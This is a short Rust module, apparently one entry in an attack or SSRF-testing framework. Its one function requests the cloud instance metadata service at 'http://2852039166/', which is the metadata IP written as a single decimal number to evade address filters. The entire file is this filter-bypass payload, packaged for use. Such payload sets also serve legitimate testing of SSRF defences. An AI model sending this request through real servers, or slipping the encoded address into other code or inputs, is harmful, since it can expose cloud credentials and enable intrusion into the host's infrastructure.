//! Asks the metadata service by its address as one number.

use crate::ways::*;

use crate::attack::*;

crate::attack! {
    async fn call(_to: String) -> Result<String> {
        ask("GET", "http://2852039166/").await
    }
}
